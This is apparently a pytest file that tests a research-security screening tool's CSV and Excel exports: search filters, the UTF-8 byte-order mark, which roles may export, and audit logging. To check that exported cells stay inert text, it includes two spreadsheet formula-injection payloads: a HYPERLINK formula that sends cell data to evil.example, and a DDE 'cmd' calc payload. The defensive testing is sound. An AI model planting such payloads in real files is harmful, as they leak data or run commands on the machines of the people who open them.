"""CSV and Excel export of the cases the list selects, their findings and decisions; cells a
spreadsheet would run as formulas stay inert; every export is audited."""

from __future__ import annotations

import codecs
import csv
import io
import json
import sqlite3
from pathlib import Path

from openpyxl import load_workbook

from kvrules.store import Store
from tests.web.web_helpers import app_for, case_id, event, login

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _rows(text: str) -> list[dict[str, str]]:
    # every CSV export starts with UTF-8's byte-order mark: Excel reads UTF-8 by it
    assert text.startswith("\ufeff"), "no byte-order mark"
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_exports_follow_the_search_and_filters(db: Path) -> None:
    with Store.open(db) as store:
        store.decide(case_id(db), "reject", "Dual-use lab access.", actor="committee")
    client = app_for(db)
    login(client, "viewer")
    everything = client.get("/cases.csv?table=cases")
    assert everything.status_code == 200
    assert everything.headers["content-type"].startswith("text/csv")
    assert "attachment" in everything.headers["content-disposition"]
    assert {r["record id"] for r in _rows(everything.text)} == {"p-1", "p-2"}
    china = _rows(client.get("/cases.csv?table=cases&country=CN").text)
    assert [r["record id"] for r in china] == ["p-1"] and china[0]["decision"] == "reject"
    found = _rows(client.get("/cases.csv?table=findings&q=beispiel").text)
    assert [r["case"] for r in found] == [str(case_id(db, "p-2"))]
    # people read the evidence in words; the ids, paths and tests are columns of their own
    assert found[0]["evidence"].startswith(
        "partner Technische Universität Beispiel (DE) may be on the US DoD Section 1286 list, "
        "edition FY25, listed as “"
    )
    assert found[0]["rule (technical)"] == "nl-leidraad@2026.1/partner-possible-list-match"
    # the test, then the list entry behind it (as `show --technical` gives them)
    assert found[0]["evidence (technical)"].startswith(
        "project.partners[0].candidate_lists contains \"us_dod_1286\" (value: ['us_dod_1286']); "
        "us_dod_1286@FY25, entry "
    )
    header = list(found[0])
    assert header[-2:] == ["rule (technical)", "evidence (technical)"]  # after the human ones
    decided = _rows(client.get("/cases.csv?table=decisions").text)
    assert [(r["decision"], r["rationale"], r["by"]) for r in decided] == [
        ("reject", "Dual-use lab access.", "committee")
    ]
    assert client.get("/cases.csv?table=users").status_code == 400
    with Store.open(db) as store:
        exports = store.audit_entries("export:cases")
    assert len(exports) == 4 and exports[1].details["filters"] == "country=CN"


def test_formula_cells_stay_text_in_csv_and_excel(db: Path) -> None:
    """A project title from the RIS that starts with = (or + - @) must not run in Excel."""
    with Store.open(db) as store:
        hostile = event("p-1", "@SUM(1+1)*cmd|' /C calc'!A0", "CN", with_match=True)
        hostile.project.title = HOSTILE
        store.record_subject(hostile)
    client = app_for(db)
    login(client, "viewer")
    rows = _rows(client.get("/cases.csv?table=cases&country=CN").text)
    assert rows[0]["title"] == "'" + HOSTILE
    book = load_workbook(io.BytesIO(client.get("/cases.xlsx?country=CN").content))
    assert book.sheetnames == ["cases", "findings", "decisions", "mitigations"]
    sheet = book["cases"]
    header = [c.value for c in sheet[1]]
    title = sheet.cell(row=2, column=header.index("title") + 1)
    assert title.value == HOSTILE and title.data_type == "s"  # text, not a formula
    for row in book["cases"].iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)


def test_excel_export_has_cases_findings_and_decisions(db: Path) -> None:
    with Store.open(db) as store:
        store.decide(case_id(db, "p-2"), "approve", "Ordinary EU partner.", actor="committee")
    client = app_for(db)
    login(client, "committee")
    response = client.get("/cases.xlsx")
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    assert book["cases"].max_row == 3 and book["findings"].max_row == 3
    decisions = list(book["decisions"].iter_rows(min_row=2, values_only=True))
    assert [(r[2], r[3]) for r in decisions] == [("approve", "Ordinary EU partner.")]


def test_a_grant_officer_cannot_export(db: Path) -> None:
    client = app_for(db)
    login(client, "grant-officer")
    assert client.get("/cases.csv", follow_redirects=False).status_code == 303  # to /prescreen
    assert client.get("/cases.xlsx", follow_redirects=False).status_code == 303


def test_the_cases_export_names_the_lead_the_partners_and_links_the_record(db: Path) -> None:
    """The case heading's facts, in the export too: the principal investigator, the partners
    and the link to the record in the RIS (CSV and the workbook alike)."""
    ev = event("p-1", "Najing Univ. of Aeronautics & Astronautics", "CN", with_match=True)
    ev.project.participants[0].display_name = "Jane Doe"
    ev.project.participants[0].role = "Principal Investigator"
    with Store.open(db) as store:
        store.record_subject(ev)
    client = app_for(db, links={"pure": "https://pure.example.edu/en/projects/{id}"})
    login(client, "viewer")
    row = next(r for r in _rows(client.get("/cases.csv?table=cases").text) if "p-1" in r.values())
    assert row["principal investigator"] == "Jane Doe (Principal Investigator)"
    assert row["partners"] == "Najing Univ. of Aeronautics & Astronautics (CN)"
    assert row["in the RIS"] == "https://pure.example.edu/en/projects/p-1"
    book = load_workbook(io.BytesIO(client.get("/cases.xlsx").content))
    header = [c.value for c in book["cases"][1]]
    assert {"principal investigator", "partners", "in the RIS"} <= set(header)


def test_csv_export_carries_the_byte_order_mark_excel_reads_utf8_by(db: Path) -> None:
    """Without it Excel opened the export in the ANSI code page: 哈尔滨 and Cyrillic garbled."""
    with sqlite3.connect(db) as conn:
        body = json.loads(
            conn.execute("SELECT body FROM record_subjects WHERE record_id = 'p-1'").fetchone()[0]
        )
        body["project"]["title"] = "哈尔滨工程大学 · Московский физико-технический институт"
        conn.execute(
            "UPDATE record_subjects SET body = ? WHERE record_id = 'p-1'", (json.dumps(body),)
        )
    client = app_for(db)
    login(client, "viewer")
    raw = client.get("/cases.csv?table=cases").content
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert "哈尔滨工程大学 · Московский физико-технический институт" in {
        v for row in rows for v in row.values()
    }
    assert next(iter(rows[0])) == "case"  # the first header is the column's, not "\ufeffcase"


def test_the_cli_s_status_all_selects_every_case_and_an_unknown_one_is_refused(db: Path) -> None:
    """Reviewer, 2026-12-07: `/cases.csv?status=all` (`kvrules cases --status all`) was a
    header only, while the list page said "No cases match"."""
    client = app_for(db)
    login(client, "viewer")
    every = _rows(client.get("/cases.csv?table=cases&status=all").text)
    assert {r["record id"] for r in every} == {"p-1", "p-2"}
    assert "p-1" in client.get("/cases?status=all").text
    for where in ("/cases.csv?status=any", "/cases.xlsx?status=any", "/cases?status=any"):
        refused = client.get(where)
        assert refused.status_code == 400, where
        assert "Unknown status &#39;any&#39;: filter by one of all, open" in refused.text, where
